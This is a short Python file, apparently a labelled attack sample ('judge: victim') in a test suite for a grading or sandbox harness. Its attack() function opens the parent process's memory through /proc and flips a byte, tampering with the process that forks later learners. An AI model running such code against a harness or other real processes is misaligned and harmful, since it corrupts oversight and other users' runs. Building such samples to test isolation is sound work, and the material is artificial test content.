"""Writes into the memory of its own parent, which forks every later learner's process."""

# judge: victim

import os


def attack(ground):
    with open(f"/proc/{os.getppid()}/stat") as file:
        start = int(file.read().rpartition(") ")[2].split()[47])
    memory = os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR)
    first = os.pread(memory, 1, start)
    os.pwrite(memory, bytes([first[0] ^ 32]), start)
